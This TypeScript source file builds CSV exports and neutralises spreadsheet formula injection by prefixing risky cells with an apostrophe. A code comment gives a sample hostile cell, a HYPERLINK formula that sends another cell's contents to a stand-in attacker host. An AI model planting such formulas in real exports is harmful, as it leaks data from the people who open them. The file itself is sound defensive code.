/**
 * Every CSV Siang writes, for people who open it in Excel or LibreOffice. No Payload imports.
 */
import { stringify } from 'csv-stringify/sync'

/**
 * What a spreadsheet reads as the start of a formula (OWASP's list). A cell such as
 * `=HYPERLINK("https://evil.example/?d="&K2,"Open")` in a station's or an item's name would run
 * when national staff open the export.
 */
const FORMULA_START = /^[=+\-@\t\r]/

/** The cell as text a spreadsheet shows, never runs: an apostrophe before a formula's start. */
export function spreadsheetSafe(value: unknown): unknown {
  return typeof value === 'string' && FORMULA_START.test(value) ? `'${value}` : value
}

/**
 * Rows as CSV with a header line: UTF-8 with a byte-order mark, so that spreadsheets show Lao,
 * and every text cell neutralised. Numbers stay numbers (a negative figure is not text).
 */
export function toCsv<C extends string>(
  rows: Partial<Record<C, string | number | null | undefined>>[],
  columns: readonly C[],
): string {
  const safe = rows.map((row) =>
    Object.fromEntries(columns.map((c) => [c, spreadsheetSafe(row[c])])),
  )
  return '\uFEFF' + stringify(safe, { header: true, columns: [...columns] })
}
